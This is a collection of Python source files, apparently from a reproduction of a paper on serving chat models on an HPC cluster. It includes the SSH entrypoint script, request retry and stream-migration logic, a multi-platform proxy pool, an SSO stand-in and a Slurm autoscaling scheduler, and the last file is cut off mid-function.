        self.base_prompt_tokens = sreq.prompt_tokens
        self.base_max_new = sreq.max_new_tokens

    # ----- lifecycle -----

    def start(self, entry, inst) -> None:
        if self.stream is not None:
            self.stream.on_cancel(self._client_cancelled)
        if self.timeout_s is not None and self.timeout_s > 0:
            self.scheduler.clock.schedule(float(self.timeout_s),
                                          self._deadline)
        # outstanding-count accounting starts at *accept*, not after the
        # hop: a burst accepted in one sim instant must see its own
        # members' load, or the skew guard could funnel the whole burst
        # at the single warm replica
        self.scheduler.router.begin(entry.job_id)
        # the probe + forward hop to the GPU node (Table 1 row 3)
        self.scheduler.clock.schedule(
            self.script.probe_latency,
            lambda: self._attempt(entry, inst, begun=True))

    def _attempt(self, entry, inst, begun: bool = False) -> None:
        job_id = entry.job_id
        if self.settled or (self.stream is not None
                            and self.stream.cancelled):
            if begun:
                self.scheduler.router.end(job_id)
            if not self.settled:
                # the client hung up during the hop/backoff: never start
                # the generation, but run the bookkeeping settle carries
                self._settle(Response(
                    self.sreq.request_id, 499, error="cancelled",
                    finish_time=self.scheduler.clock.now()))
            return
        if not begun:
            self.scheduler.router.begin(job_id)
        attempt = {"done": False}

        def on_done(resp: Response) -> None:
            # a backend may double-fire across kill/cancel races; the
            # attempt guard keeps router bookkeeping exactly-once
            if attempt["done"]:
                return
            attempt["done"] = True
            self.cancel_handle = None
            self.scheduler.router.end(job_id)
            self._attempt_finished(resp)

        self.cancel_handle = inst.infer(self.sreq, on_done,
                                        on_chunk=self.relay)

    def _attempt_finished(self, resp: Response) -> None:
        if self.settled:
            return                       # deadline/cancel already settled
        if resp.status != 503 or (self.stream is not None
                                  and self.stream.cancelled):
            self._settle(resp)
            return
        # --- retryable failure (replica killed / not ready) ---
        k = self.relay.emitted if self.relay is not None else 0
        if k > 0 and not self.relay.tokens_ok:
            # tokens already reached the client but their ids are
            # unknowable (n>1 children, opaque frames): resuming could
            # duplicate or drop tokens — fail loudly instead
            self._settle_terminal(
                resp, 503, "stream not resumable after instance failure")
            return
        if k >= self.base_max_new > 0:
            # the replica died after emitting the full generation but
            # before its final response: the client already has every
            # token, so settle success instead of re-dispatching
            self._settle(Response(self.sreq.request_id, 200,
                                  tokens=list(self.relay.tokens),
                                  finish_time=self.scheduler.clock.now()))
            return
        if self.attempts >= self.script.retry_policy.max_retries:
            self.metrics.counter("requests_retry_exhausted").inc()
            self._settle_terminal(resp, 503, "retries exhausted")
            return
        if not self.script.retry_budget.allow(self.svc):
            self.metrics.counter("retry_budget_denied").inc()
            self._settle_terminal(resp, 503, "retry budget exhausted")
            return
        self.attempts += 1
        self.script.retry_budget.note_retry(self.svc)
        self.metrics.counter("requests_retried").inc()
        if k > 0:
            self._prepare_migration(k)
        delay = self.script.retry_policy.backoff(self.attempts,
                                                 self.script.rng)
        self.scheduler.clock.schedule(delay, self._retry)

    def _prepare_migration(self, k: int) -> None:
        """Rewrite the request so the next attempt *continues* the stream:
        the k already-emitted tokens extend the prompt (→ mostly
        prefix-cache hits on a replica that was receiving this chain's
        heartbeats) and the generation budget shrinks by k.  Expressed
        against the original shape so a second migration doesn't
        double-count the first's tokens."""
        self.metrics.counter("requests_migrated_streams").inc()
        self.sreq.payload["resume_tokens"] = list(self.relay.tokens)
        self.sreq.payload["resume_offset"] = k
        self.sreq.prompt_tokens = self.base_prompt_tokens + k
        self.sreq.max_new_tokens = self.base_max_new - k

    def _retry(self) -> None:
        if self.settled:
            return
        if self.stream is not None and self.stream.cancelled:
            self._settle(Response(self.sreq.request_id, 499,
                                  error="cancelled",
                                  finish_time=self.scheduler.clock.now()))
            return
        # re-pick against the *current* table: the dead replica was
        # retired synchronously by the scheduler's on_end hook, and the
        # chain keys now include any resume tokens, steering the retry
        # at whichever survivor has the deepest coverage
        keys = request_chain_keys(self.sreq.payload,
                                  self.scheduler.cache_block_size)
        entry = self.scheduler.router.pick(self.svc, chain_keys=keys)
        inst = (self.scheduler.registry.lookup(entry.node, entry.port)
                if entry is not None else None)
        if entry is not None and (inst is None or inst.probe() != 200):
            entry.ready = False          # heal the table
            self.metrics.counter("requests_stale_route").inc()
            inst = None
        if inst is not None:
            self._attempt(entry, inst)
            return
        # no routable replica right now (fleet-wide outage, cold start of
        # the replacement): park in the scale-to-zero queue — the flush
        # path does its own router bookkeeping, so the queue's completion
        # funnels straight back into _attempt_finished
        if self.scheduler.enqueue(self.svc, self.sreq,
                                  self._attempt_finished,
                                  on_chunk=self.relay):
            return
        self._settle_terminal(
            Response(self.sreq.request_id, 503, error="no ready instance",
                     finish_time=self.scheduler.clock.now()),
            503, "no ready instance")

    # ----- terminal paths -----

    def _client_cancelled(self, _reason) -> None:
        if self.settled:
            return
        self.metrics.counter("requests_cancelled").inc()
        handle, self.cancel_handle = self.cancel_handle, None
        if handle is not None:
            # the backend settles 499, which funnels into
            # _attempt_finished and settles the request
            handle()
        # no live attempt (hop, backoff, queued): the pending event's own
        # cancelled-check settles when it fires; nothing to abort now

    def _deadline(self) -> None:
        if self.settled:
            return
        self.metrics.counter("requests_deadline_expired").inc()
        handle, self.cancel_handle = self.cancel_handle, None
        self._settle(Response(
            self.sreq.request_id, 504, error="deadline expired",
            envelope=error_envelope(
                504, f"request deadline of {self.timeout_s}s expired"),
            finish_time=self.scheduler.clock.now()))
        if handle is not None:
            handle()                     # free the backend's work; its
            #                              499 is absorbed by the guard

    def _settle_terminal(self, resp: Response, status: int,
                         message: str) -> None:
        resp.status = status
        resp.error = resp.error or message
        resp.envelope = error_envelope(status, message)
        self._settle(resp)

    def _settle(self, resp: Response) -> None:
        if self.settled:
            return
        self.settled = True
        if (resp.status == 200 and self.relay is not None
                and self.relay.tokens_ok and self.attempts
                and self.relay.emitted):
            # a migrated stream's final attempt only generated the tail;
            # the relay's ledger is the full sequence the client saw
            resp.tokens = list(self.relay.tokens)
        self.scheduler.request_end(self.svc)
        self.metrics.counter("requests_completed").inc()
        if self.stream is not None:
            self.stream.end(resp)
        else:
            self.deferred.resolve(resp)


class CloudInterfaceScript:
    """Callable with the ForceCommand signature ``(argv, stdin) -> SSHResult``.

    For inference requests the returned ``SSHResult`` carries a ``deferred``
    attribute that resolves (in sim time) to the instance's
    :class:`Response` — standing in for the streamed stdout of the real
    script.
    """

    def __init__(self, scheduler: ChatScheduler,
                 metrics: Metrics | None = None,
                 probe_latency: float = 0.0053,
                 stream_buffer: int = 256,
                 retry_policy: RetryPolicy | None = None,
                 retry_budget: RetryBudget | None = None):
        self.scheduler = scheduler
        self.metrics = metrics or scheduler.metrics
        self.probe_latency = probe_latency   # paper Table 1: 5.30 ms hop
        self.stream_buffer = stream_buffer   # per-stream chunk watermark
        self.retry_policy = retry_policy or RetryPolicy()
        self.retry_budget = retry_budget or RetryBudget(scheduler.clock)
        self.rng = random.Random(0)          # deterministic backoff jitter
        self._req_ids = iter(range(1, 1 << 62))

    def __call__(self, argv: list[str], stdin: bytes = b"") -> SSHResult:
        req = validate_request(argv, stdin)    # raises SecurityViolation
        if req.keepalive:
            # every keep-alive ping triggers a scheduler run (paper §5.5)
            self.scheduler.tick()
            return SSHResult(0, b"PONG")
        return self._route(req)

    def _route(self, req: ParsedRequest) -> SSHResult:
        if req.path == "/v1/models":
            models = sorted(self.scheduler.services)
            return _ok({"object": "list",
                        "data": [{"id": m, "object": "model"}
                                 for m in models]})
        if req.path == "/v1/health":
            return SSHResult(0, b"OK")

        svc = req.model
        if svc not in self.scheduler.services:
            return _err(404, f"model {svc} not found")

        try:
            body = json.loads(req.body or b"{}")
        except json.JSONDecodeError:
            return _err(400, "bad json")

        # cache-aware dispatch: hash the prompt head into the same
        # incremental block-key chain the instances register, then ask the
        # router for the replica with the deepest cached coverage (falling
        # back to least-outstanding when nothing is warm)
        keys = request_chain_keys(body, self.scheduler.cache_block_size)
        entry = self.scheduler.router.pick(svc, chain_keys=keys)
        inst = (self.scheduler.registry.lookup(entry.node, entry.port)
                if entry is not None else None)
        if entry is not None and (inst is None or inst.probe() != 200):
            entry.ready = False     # heal the table
            self.metrics.counter("requests_stale_route").inc()
            inst = None
        if inst is None:
            # scale-to-zero path (beyond-paper §7.1.3): hold the request
            # while the scheduler cold-starts an instance
            return self._enqueue_or_503(svc, body, req)

        timeout_s = body.get("timeout_s")
        sreq = Request(
            request_id=next(self._req_ids),
            model=svc,
            prompt_tokens=int(body.get("prompt_tokens", 64)),
            max_new_tokens=int(body.get("max_tokens", 128)),
            stream=req.stream,
            payload=body,
        )
        self.scheduler.request_begin(svc)
        self.retry_budget.note_request(svc)
        # streamed responses flow back through stdout chunk by chunk
        # (paper §5.4 "including streaming"); the Stream stands in for
        # the incrementally-written SSH stdout.  Its watermark is what a
        # lagging consumer pushes back against — the backend pauses the
        # engine group when the stream stops being writable.
        stream = Stream(max_buffer=self.stream_buffer) if req.stream \
            else None
        deferred = stream if req.stream else Deferred()
        self.metrics.counter("requests_routed").inc()
        d = _Dispatch(self, svc, sreq, stream, deferred,
                      None if timeout_s is None else float(timeout_s))
        d.start(entry, inst)
        res = SSHResult(0, json.dumps(
            {"accepted": sreq.request_id, "node": entry.node,
             "port": entry.port}).encode())
        res.deferred = deferred
        return res

    def _enqueue_or_503(self, svc: str, body: dict,
                        req: ParsedRequest) -> SSHResult:
        """Scale-to-zero: queue the request while an instance cold-starts;
        the scheduler flushes the queue once one is READY."""
        sreq = Request(
            request_id=next(self._req_ids),
            model=svc,
            prompt_tokens=int(body.get("prompt_tokens", 64)),
            max_new_tokens=int(body.get("max_tokens", 128)),
            stream=req.stream,
            payload=body,
        )
        stream = Stream(max_buffer=self.stream_buffer) if req.stream \
            else None
        deferred = stream if req.stream else Deferred()

        def done(resp: Response) -> None:
            self.scheduler.request_end(svc)
            self.metrics.counter("requests_completed").inc()
            if stream is not None:
                stream.end(resp)
            else:
                deferred.resolve(resp)

        self.scheduler.request_begin(svc)   # queued demand drives scale-up
        if not self.scheduler.enqueue(svc, sreq, done, on_chunk=stream):
            self.scheduler.request_end(svc)
            self.metrics.counter("requests_no_instance").inc()
            return _err(503, "no ready instance")
        res = SSHResult(0, json.dumps(
            {"accepted": sreq.request_id, "queued": True}).encode())
        res.deferred = deferred
        return res
