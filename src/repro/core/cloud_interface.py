"""Cloud Interface Script (paper §5.5) — the forced entrypoint on the HPC
service node.

Receives every request that crosses the SSH boundary, triggers the scheduler
on keep-alive pings (every ~5 s), resolves inference requests through the
routing table, and forwards them to the chosen instance's (node, port).
Responses return via stdout (modelled as a resolved :class:`Deferred`);
request bodies arrive via stdin.
"""
from __future__ import annotations

import json

from repro.core.circuit_breaker import ParsedRequest, SSHResult, \
    validate_request
from repro.core.deferred import Deferred, Stream
from repro.core.errors import error_envelope
from repro.core.monitoring import Metrics
from repro.core.prefix_index import request_chain_keys
from repro.core.scheduler import ChatScheduler
from repro.slurmlite import Request, Response


def _ok(obj) -> SSHResult:
    return SSHResult(0, json.dumps(obj).encode())


def _err(code: int, message: str, param: str | None = None) -> SSHResult:
    # the OpenAI envelope of the whole chain (core/errors.py); "code"
    # carries the HTTP status since SSH framing has no status line
    return _ok(error_envelope(code, message, param))


class CloudInterfaceScript:
    """Callable with the ForceCommand signature ``(argv, stdin) -> SSHResult``.

    For inference requests the returned ``SSHResult`` carries a ``deferred``
    attribute that resolves (in sim time) to the instance's
    :class:`Response` — standing in for the streamed stdout of the real
    script.
    """

    def __init__(self, scheduler: ChatScheduler,
                 metrics: Metrics | None = None,
                 probe_latency: float = 0.0053,
                 stream_buffer: int = 256):
        self.scheduler = scheduler
        self.metrics = metrics or scheduler.metrics
        self.probe_latency = probe_latency   # paper Table 1: 5.30 ms hop
        self.stream_buffer = stream_buffer   # per-stream chunk watermark
        self._req_ids = iter(range(1, 1 << 62))

    def __call__(self, argv: list[str], stdin: bytes = b"") -> SSHResult:
        req = validate_request(argv, stdin)    # raises SecurityViolation
        if req.keepalive:
            # every keep-alive ping triggers a scheduler run (paper §5.5)
            self.scheduler.tick()
            return SSHResult(0, b"PONG")
        return self._route(req)

    def _route(self, req: ParsedRequest) -> SSHResult:
        if req.path == "/v1/models":
            models = sorted(self.scheduler.services)
            return _ok({"object": "list",
                        "data": [{"id": m, "object": "model"}
                                 for m in models]})
        if req.path == "/v1/health":
            return SSHResult(0, b"OK")

        svc = req.model
        if svc not in self.scheduler.services:
            return _err(404, f"model {svc} not found")

        try:
            body = json.loads(req.body or b"{}")
        except json.JSONDecodeError:
            return _err(400, "bad json")

        # cache-aware dispatch: hash the prompt head into the same
        # incremental block-key chain the instances register, then ask the
        # router for the replica with the deepest cached coverage (falling
        # back to least-outstanding when nothing is warm)
        keys = request_chain_keys(body, self.scheduler.cache_block_size)
        entry = self.scheduler.router.pick(svc, chain_keys=keys)
        inst = (self.scheduler.registry.lookup(entry.node, entry.port)
                if entry is not None else None)
        if entry is not None and (inst is None or inst.probe() != 200):
            entry.ready = False     # heal the table
            self.metrics.counter("requests_stale_route").inc()
            inst = None
        if inst is None:
            # scale-to-zero path (beyond-paper §7.1.3): hold the request
            # while the scheduler cold-starts an instance
            return self._enqueue_or_503(svc, body, req)

        sreq = Request(
            request_id=next(self._req_ids),
            model=svc,
            prompt_tokens=int(body.get("prompt_tokens", 64)),
            max_new_tokens=int(body.get("max_tokens", 128)),
            stream=req.stream,
            payload=body,
        )
        self.scheduler.request_begin(svc)
        self.scheduler.router.begin(entry.job_id)
        # streamed responses flow back through stdout chunk by chunk
        # (paper §5.4 "including streaming"); the Stream stands in for
        # the incrementally-written SSH stdout.  Its watermark is what a
        # lagging consumer pushes back against — the backend pauses the
        # engine group when the stream stops being writable.
        stream = Stream(max_buffer=self.stream_buffer) if req.stream \
            else None
        deferred = stream if req.stream else Deferred()
        job_id = entry.job_id

        def done(resp: Response) -> None:
            self.scheduler.request_end(svc)
            self.scheduler.router.end(job_id)
            self.metrics.counter("requests_completed").inc()
            if stream is not None:
                stream.end(resp)
            else:
                deferred.resolve(resp)

        self.metrics.counter("requests_routed").inc()
        cancel_box: dict = {"handle": None}

        def dispatch() -> None:
            if stream is not None and stream.cancelled:
                # the client hung up during the hop: never start the
                # generation, but run the bookkeeping done() carries
                done(Response(sreq.request_id, 499, error="cancelled",
                              finish_time=self.scheduler.clock.now()))
                return
            cancel_box["handle"] = inst.infer(sreq, done, on_chunk=stream)

        if stream is not None:
            # client disconnect mid-stream: propagate to the backend's
            # cancel handle so the engine aborts the group and frees its
            # KV blocks instead of decoding into a dead pipe
            def on_cancel(_reason) -> None:
                self.metrics.counter("requests_cancelled").inc()
                handle = cancel_box["handle"]
                if handle is not None:
                    handle()
            stream.on_cancel(on_cancel)
        # the probe + forward hop to the GPU node (Table 1 row 3)
        self.scheduler.clock.schedule(self.probe_latency, dispatch)
        res = SSHResult(0, json.dumps(
            {"accepted": sreq.request_id, "node": entry.node,
             "port": entry.port}).encode())
        res.deferred = deferred
        return res

    def _enqueue_or_503(self, svc: str, body: dict,
                        req: ParsedRequest) -> SSHResult:
        """Scale-to-zero: queue the request while an instance cold-starts;
        the scheduler flushes the queue once one is READY."""
        sreq = Request(
            request_id=next(self._req_ids),
            model=svc,
            prompt_tokens=int(body.get("prompt_tokens", 64)),
            max_new_tokens=int(body.get("max_tokens", 128)),
            stream=req.stream,
            payload=body,
        )
        stream = Stream(max_buffer=self.stream_buffer) if req.stream \
            else None
        deferred = stream if req.stream else Deferred()

        def done(resp: Response) -> None:
            self.scheduler.request_end(svc)
            self.metrics.counter("requests_completed").inc()
            if stream is not None:
                stream.end(resp)
            else:
                deferred.resolve(resp)

        self.scheduler.request_begin(svc)   # queued demand drives scale-up
        if not self.scheduler.enqueue(svc, sreq, done, on_chunk=stream):
            self.scheduler.request_end(svc)
            self.metrics.counter("requests_no_instance").inc()
            return _err(503, "no ready instance")
        res = SSHResult(0, json.dumps(
            {"accepted": sreq.request_id, "queued": True}).encode())
        res.deferred = deferred
        return res
