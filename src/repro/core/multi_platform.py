"""Multi-HPC-platform load balancing (paper §5.4).

"This architecture decouples the web server from the HPC platform,
allowing a single web server to potentially utilize multiple HPC platforms
by starting an HPC Proxy instance per HPC platform and load balancing via
the API Gateway."

``ProxyPool`` is that gateway-side balancer: one HPCProxy per platform,
health-aware round-robin (disconnected proxies are skipped, requests fail
over), and per-platform accounting.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.core.deferred import Deferred
from repro.core.hpc_proxy import HPCProxy
from repro.core.monitoring import Metrics


class ProxyPool:
    def __init__(self, proxies: list[HPCProxy],
                 metrics: Metrics | None = None):
        assert proxies
        self.proxies = list(proxies)
        self.metrics = metrics or Metrics()
        self._rr = 0

    def _next_connected(self) -> Optional[HPCProxy]:
        n = len(self.proxies)
        for i in range(n):
            p = self.proxies[(self._rr + i) % n]
            if p.connected:
                self._rr = (self._rr + i + 1) % n
                return p
        return None

    def forward(self, method, path, model, body, user_id="",
                stream=False) -> Deferred:
        """Gateway Route.upstream signature; health-aware round robin."""
        p = self._next_connected()
        if p is None:
            from repro.core.circuit_breaker import SSHResult
            out = Deferred()
            out.resolve(SSHResult(255, b"", b"all platforms unreachable"))
            self.metrics.counter("pool_all_down").inc()
            return out
        self.metrics.counter(f"pool_requests_{p.name}").inc()
        return p.forward(method, path, model, body, user_id, stream)
