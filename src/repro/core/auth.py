"""SSO authentication layer (paper §5.1).

Shape-faithful stand-in for the Apache/mod_auth_openidc reverse proxy in
front of the gateway: users authenticate against the SSO provider
(AcademicCloud OIDC in production), receive a session, and every forwarded
request carries the account email as the user-id header.  No conversation
content ever touches this layer.
"""
from __future__ import annotations

import secrets
from dataclasses import dataclass, field
from typing import Optional


@dataclass
class User:
    email: str
    display_name: str = ""
    groups: set[str] = field(default_factory=set)


class SSOProvider:
    """The identity provider (e.g. AcademicCloud)."""

    def __init__(self):
        self._users: dict[str, User] = {}

    def register(self, user: User) -> None:
        self._users[user.email] = user

    def authenticate(self, email: str) -> Optional[User]:
        return self._users.get(email)


class AuthReverseProxy:
    """Apache+OpenIDC equivalent: session cookie -> user-id header."""

    def __init__(self, provider: SSOProvider):
        self.provider = provider
        self._sessions: dict[str, str] = {}   # token -> email

    def login(self, email: str) -> Optional[str]:
        user = self.provider.authenticate(email)
        if user is None:
            return None
        token = secrets.token_urlsafe(24)
        self._sessions[token] = email
        return token

    def logout(self, token: str) -> None:
        self._sessions.pop(token, None)

    def resolve_session(self, token: str) -> Optional[str]:
        """Returns the user-id header value attached to forwarded requests."""
        return self._sessions.get(token)
