"""The Chat AI scheduler script (paper §5.6) — service paradigm on Slurm.

Run on every keep-alive ping (~5 s).  Single-instance execution is enforced
with a lock file.  Per tick it:

  1. ``squeue``s the functional account's jobs and diffs them against the
     per-service desired state,
  2. submits replacement/new jobs via ``sbatch`` with a random,
     collision-free port,
  3. probes not-yet-ready instances and marks them READY in the routing
     table once their health endpoint answers,
  4. autoscales: tracks the average number of concurrent requests per
     service over a sliding window; above ``scale_up_per_instance`` it adds
     instances (up to ``max_instances``), below ``scale_down_per_instance``
     it marks excess jobs *expiring* — they are simply not resubmitted when
     their Slurm time limit ends (the paper's scale-down mechanism),
  5. reaps dead jobs from the routing table.
"""
from __future__ import annotations

import contextlib
import os
import tempfile
from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.core.monitoring import Metrics
from repro.core.prefix_index import PrefixIndex, request_chain_keys
from repro.core.routing import AffinityRouter, RouteEntry, RoutingTable
from repro.slurmlite import (
    InstanceRegistry, InstanceRuntime, JobSpec, JobState, SlurmCluster)
from repro.slurmlite.clock import SimClock


@dataclass
class ServiceSpec:
    name: str                      # route name, e.g. "meta-llama-3.1-70b"
    arch: str                      # model config id
    gpus_per_instance: int = 2
    min_instances: int = 1
    max_instances: int = 4
    time_limit: float = 8 * 3600.0
    load_time: float = 300.0       # model load (cold start), paper: up to 10min
    # autoscaling thresholds: average concurrent requests per ready instance
    scale_up_per_instance: float = 8.0
    scale_down_per_instance: float = 2.0
    window_s: float = 60.0
    backend_factory: Optional[Callable] = None
    priority: int = 10             # service jobs outrank batch backfill
    # ---- scale-to-zero (beyond-paper: the §7.1.3 future-work item) ----
    # with min_instances=0, requests arriving while no instance is ready
    # are held in a bounded queue until a cold-started instance answers;
    # queued requests expire with 503 after queue_timeout_s.
    queue_requests: bool = True
    queue_timeout_s: float = 600.0
    max_queue: int = 256
    # optional operating window [start_h, end_h) in sim-hours-of-day: the
    # paper's cron-based day/night sharing (§7.1.3) as a first-class knob;
    # outside the window desired instances drop to zero.
    active_hours: Optional[tuple[float, float]] = None
    # ---- walltime-aware graceful drain ----
    # a replica whose remaining Slurm walltime drops below this horizon
    # stops taking new traffic (DRAINING), retracts its prefix-index
    # publications, and a replacement is pre-submitted immediately, so
    # the fleet never loses capacity *at* the walltime.  Pick a horizon
    # comfortably above ``load_time`` (the replacement must be READY
    # before the old replica expires).  None disables draining.
    drain_horizon_s: Optional[float] = None

    def in_window(self, now_s: float) -> bool:
        if self.active_hours is None:
            return True
        h = (now_s / 3600.0) % 24.0
        lo, hi = self.active_hours
        return lo <= h < hi if lo <= hi else (h >= lo or h < hi)


class LoadTracker:
    """Average concurrent requests over a sliding window (paper §5.6)."""

    def __init__(self, clock: SimClock, window_s: float):
        self.clock = clock
        self.window_s = window_s
        self._events: list[tuple[float, int]] = []   # (t, +1/-1)
        self._current = 0

    def begin(self) -> None:
        self._current += 1
        self._events.append((self.clock.now(), +1))

    def end(self) -> None:
        self._current -= 1
        self._events.append((self.clock.now(), -1))

    @property
    def current(self) -> int:
        return self._current

    def average(self) -> float:
        """Time-weighted average concurrency over the trailing window."""
        now = self.clock.now()
        t0 = now - self.window_s
        self._events = [(t, d) for (t, d) in self._events if t >= t0]
        # reconstruct concurrency at t0
        base = self._current - sum(d for _, d in self._events)
        area = 0.0
        level, last_t = base, t0
        for t, d in self._events:
            area += level * (t - last_t)
            level += d
            last_t = t
        area += level * (now - last_t)
        return area / self.window_s if self.window_s > 0 else float(level)


class FileLock:
    """The scheduler's single-instance lock file (O_CREAT|O_EXCL)."""

    def __init__(self, path: str | None = None):
        self.path = path or os.path.join(
            tempfile.gettempdir(), "chat_ai_scheduler.lock")
        self._fd: Optional[int] = None

    def acquire(self) -> bool:
        try:
            self._fd = os.open(self.path, os.O_CREAT | os.O_EXCL | os.O_WRONLY)
            os.write(self._fd, str(os.getpid()).encode())
            return True
        except FileExistsError:
            return False

    def release(self) -> None:
        if self._fd is not None:
            os.close(self._fd)
            self._fd = None
        with contextlib.suppress(FileNotFoundError):
            os.unlink(self.path)

    def __enter__(self):
        return self.acquire()

    def __exit__(self, *exc):
        self.release()


class ChatScheduler:
    def __init__(self, clock: SimClock, slurm: SlurmCluster,
                 services: list[ServiceSpec],
                 registry: InstanceRegistry | None = None,
                 metrics: Metrics | None = None,
                 lock_path: str | None = None,
                 job_prefix: str = "chatai",
                 index_ttl_s: float = 30.0,
                 affinity_skew: float = 2.0,
                 cache_block_size: int = 16):
        self.clock = clock
        self.slurm = slurm
        self.services = {s.name: s for s in services}
        self.registry = registry or InstanceRegistry()
        self.table = RoutingTable()
        self.metrics = metrics or Metrics()
        # cache-aware routing: instances publish resident prefix-cache
        # block keys on heartbeat; the request path routes by coverage
        self.cache_block_size = cache_block_size
        self.prefix_index = PrefixIndex(clock, ttl_s=index_ttl_s)
        self.router = AffinityRouter(self.table, self.prefix_index,
                                     metrics=self.metrics,
                                     skew_factor=affinity_skew)
        self.load = {s.name: LoadTracker(clock, s.window_s)
                     for s in services}
        self.job_prefix = job_prefix
        self._lock_path = lock_path
        self.ticks = 0
        # scale-to-zero queues: service -> [(request, done_cb, t_enqueue)]
        self.pending: dict[str, list] = {s.name: [] for s in services}

    # ------------------------------------------------------------------
    def job_name(self, service: str) -> str:
        return f"{self.job_prefix}_{service}"

    def desired_instances(self, spec: ServiceSpec, n_ready: int) -> int:
        if not spec.in_window(self.clock.now()):
            return 0                      # day/night sharing (§7.1.3)
        avg = self.load[spec.name].average()
        per_inst = avg / max(n_ready, 1)
        cur = max(n_ready, spec.min_instances)
        if per_inst > spec.scale_up_per_instance:
            cur = min(cur + 1, spec.max_instances)
        elif per_inst < spec.scale_down_per_instance:
            cur = max(cur - 1, spec.min_instances)
        if self.pending.get(spec.name) and n_ready == 0:
            # scale-from-zero: queued demand forces at least one instance
            # regardless of the sliding-window average
            cur = max(cur, 1)
        return cur

    def tick(self) -> None:
        """One scheduler run (triggered by a keep-alive ping)."""
        lock = FileLock(self._lock_path)
        if not lock.acquire():
            self.metrics.counter("scheduler_lock_contended").inc()
            return
        try:
            self._tick_locked()
        finally:
            lock.release()

    def _tick_locked(self) -> None:
        self.ticks += 1
        jobs = {j.job_id: j for j in self.slurm.squeue(self.job_prefix)}

        # 1) reap table entries whose job is gone (retracting their keys
        #    from the prefix index so routing stops chasing dead replicas)
        for e in self.table.entries():
            if e.job_id not in jobs:
                inst = (self.registry.lookup(e.node, e.port)
                        if e.node else None)
                if inst is not None:
                    self.registry.deregister(inst)
                    inst.kill()
                self.table.remove(e.job_id)
                self.prefix_index.quiesce(e.job_id)
                self.router.retire(e.job_id)
                self.metrics.counter("instances_reaped").inc()

        # 2) probe pending instances, update readiness + node binding;
        #    ready instances heartbeat their resident prefix-cache keys
        #    into the shared index (publish replaces: evicted keys drop).
        #    Draining replicas still serve their in-flight work but stop
        #    publishing — their keys were retracted at the drain mark and
        #    must not re-attract affinity traffic.
        for e in self.table.entries():
            job = jobs.get(e.job_id)
            if job is None:
                continue
            if job.state == JobState.RUNNING and e.node is None:
                e.node = job.node
            if e.node is not None and not e.ready:
                inst = self.registry.lookup(e.node, e.port)
                if inst is not None and inst.probe() == 200:
                    e.ready = True
                    self.metrics.counter("instances_ready").inc()
            if e.node is not None and e.ready and not e.draining:
                inst = self.registry.lookup(e.node, e.port)
                if inst is not None and inst.probe() == 200:
                    self.prefix_index.publish(
                        e.job_id, inst.cached_block_keys())
                    # swap-aware routing: free host-pool headroom rides
                    # the same heartbeat and tie-breaks the router's pick
                    self.router.set_headroom(e.job_id,
                                             inst.swap_headroom())
                    # replica geometry (tp degree, sharded leaves) rides
                    # along too so the table knows each replica's shape
                    geom = getattr(inst, "replica_geometry", None)
                    if geom is not None:
                        e.geometry = geom() or e.geometry

        # 2b) walltime-aware graceful drain: a replica whose remaining
        #     walltime dropped below the service's drain horizon stops
        #     taking new traffic NOW — routers skip it, its prefix-index
        #     entries retract — and the reconciliation below (which no
        #     longer counts it) pre-submits its replacement in this same
        #     tick, so the walltime expiry finds an already-warm stand-in
        #     and only the stragglers need migration.
        for e in self.table.entries():
            spec = self.services.get(e.service)
            if (spec is None or spec.drain_horizon_s is None
                    or e.draining or not e.ready):
                continue
            rem = self.slurm.remaining_time(e.job_id)
            if rem is not None and rem <= spec.drain_horizon_s:
                e.draining = True
                self.prefix_index.quiesce(e.job_id)
                self.router.retire(e.job_id)
                self.metrics.counter("instances_draining").inc()

        # TTL sweep: instances that stopped heartbeating age out of the
        # index even before their job disappears from squeue.  Retire
        # their in-flight counts too — a hung replica's requests never
        # complete, and the stale count would bias the router's
        # least-outstanding fallback and skew guard forever.  Drop the
        # route's readiness as well: new traffic must wait for a
        # successful re-probe, otherwise fresh begin()s would rebuild a
        # count that the hung requests' late end()s (if the replica ever
        # recovers) would then eat from below.
        for job_id in self.prefix_index.expire():
            self.router.retire(job_id)
            e = self.table.get(job_id)
            if e is not None and e.ready:
                e.ready = False
                self.metrics.counter("instances_unready_ttl").inc()

        # 3) per-service desired-state reconciliation.  Draining replicas
        #    count as neither ready nor active: they are walking dead, so
        #    the loop below submits their replacement *now* — capacity is
        #    pre-warmed before the walltime fires, not after.
        for name, spec in self.services.items():
            entries = self.table.entries(name)
            n_ready = sum(e.routable for e in entries)
            desired = self.desired_instances(spec, n_ready)
            active = [e for e in entries if not e.expiring and not e.draining]
            # scale down: expire the *coldest* instance — fewest published
            # prefix-cache keys, ties by least in-flight, newest last —
            # never the warm replica the affinity router is concentrating
            # traffic on (expiring the newest used to do exactly that
            # whenever the newest replica was the warmed-up one)
            while len(active) > desired:
                victim = min(active, key=lambda e: (
                    self.prefix_index.published_keys(e.job_id),
                    self.router.outstanding.get(e.job_id, 0),
                    -e.job_id))
                active.remove(victim)
                victim.expiring = True
                self.metrics.counter("scale_down_marks").inc()
            # scale up: reclaim still-running expiring instances first —
            # otherwise a burst after a scale-down submits fresh (cold)
            # jobs while the marked ones keep serving until their time
            # limit, leaking instances past max_instances
            reclaimable = [e for e in entries
                           if e.expiring and not e.draining]
            while len(active) < desired and reclaimable:
                e = reclaimable.pop()
                e.expiring = False
                active.append(e)
                self.metrics.counter("scale_up_reclaims").inc()
            # then submit genuinely new jobs / replace failures
            while len(active) < desired:
                e = self._submit(spec)
                active.append(e)
                self.metrics.counter("jobs_submitted").inc()

        # 4) scale-to-zero queue maintenance: expire stale waiters, flush
        #    the rest to newly-ready instances
        self._flush_queues()

        self.metrics.gauge("scheduler_ticks").set(self.ticks)
        self.metrics.gauge("prefix_index_keys").set(
            self.prefix_index.num_keys)
        self.metrics.gauge("prefix_index_instances").set(
            self.prefix_index.num_instances)

    # ----- scale-to-zero queue (beyond-paper, §7.1.3) -----

    def enqueue(self, service: str, req, done, on_chunk=None) -> bool:
        """Hold a request while the service cold-starts. Returns False if
        queuing is disabled/full (caller answers 503)."""
        spec = self.services.get(service)
        q = self.pending.get(service)
        if spec is None or q is None or not spec.queue_requests \
                or len(q) >= spec.max_queue:
            return False
        q.append((req, done, on_chunk, self.clock.now()))
        self.metrics.counter("requests_queued").inc()
        return True

    def _flush_queues(self) -> None:
        from repro.slurmlite import Response
        for name, q in self.pending.items():
            if not q:
                continue
            spec = self.services[name]
            keep = []
            for req, done, on_chunk, t0 in q:
                if getattr(on_chunk, "cancelled", False):
